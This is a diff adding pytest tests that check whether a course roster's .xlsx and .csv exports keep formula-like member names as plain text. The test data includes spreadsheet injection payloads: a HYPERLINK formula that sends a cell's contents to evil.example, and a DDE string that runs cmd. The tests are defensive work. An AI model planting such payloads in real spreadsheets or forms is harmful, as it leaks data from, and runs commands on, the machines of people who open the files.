@@ -1,7 +1,10 @@
 """Exports: .xlsx and .csv files read back, Chinese names and dates in the file names, the audit."""
 
 import csv
+import html
 import json
+import re
+import zipfile
 from datetime import date, datetime, timedelta
 
 import pytest
@@ -237,3 +240,44 @@ def test_a_sheet_per_course_of_a_big_term_with_unique_names(tmp_path, world, act
     (path,) = exports.export(actor, "attendance", "xlsx", tmp_path, NOW, term_id=world.term.id)
     names = load_workbook(path, read_only=True).sheetnames
     assert len(names) == len({n.casefold() for n in names}) == 40 and max(map(len, names)) <= 31
+
+
+# -- cells that must stay text (a name Excel would evaluate) -----------------------------------------
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.fixture
+def formula_names(world):
+    """A course whose members are named as an attacker would name them."""
+    course = world.course("智能手机应用（体验课堂）")
+    for i, name in enumerate(FORMULAS):
+        world.enroll(world.member(f"DM01{i:02d}", name), course)
+    return course
+
+
+def test_an_xlsx_export_writes_formula_like_names_as_text(tmp_path, world, formula_names, actor):
+    (path,) = exports.export(actor, "course", "xlsx", tmp_path, NOW, course_id=formula_names.id)
+    with zipfile.ZipFile(path) as z:
+        xml = z.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in xml and "<f " not in xml  # not one formula in the sheet
+    cells = re.findall(r'<c r="B(?!1")\d+"[^>]*t="inlineStr"[^>]*><is><t[^>]*>(.*?)</t>', xml, re.S)
+    assert sorted(html.unescape(c) for c in cells) == sorted(FORMULAS)
+    sheet = load_workbook(path).active
+    assert {sheet.cell(r, 2).data_type for r in range(2, 2 + len(FORMULAS))} == {"s"}
+    assert all(sheet.cell(r, 2).quotePrefix for r in range(2, 2 + len(FORMULAS)))  # stays text when edited
+
+
+def test_a_csv_export_puts_a_quote_before_formula_like_names(tmp_path, world, formula_names, actor):
+    (path,) = exports.export(actor, "course", "csv", tmp_path, NOW, course_id=formula_names.id)
+    header, *rows, total = read_csv(path)
+    assert sorted(row[1] for row in rows) == sorted("'" + name for name in FORMULAS)
+    assert [row[0] for row in rows] == [f"DM01{i:02d}" for i in range(len(FORMULAS))]  # the rest as it was
+    assert (header, total) == (["学员编号", "姓名", "出勤次数"], ["合计", "", "0"])
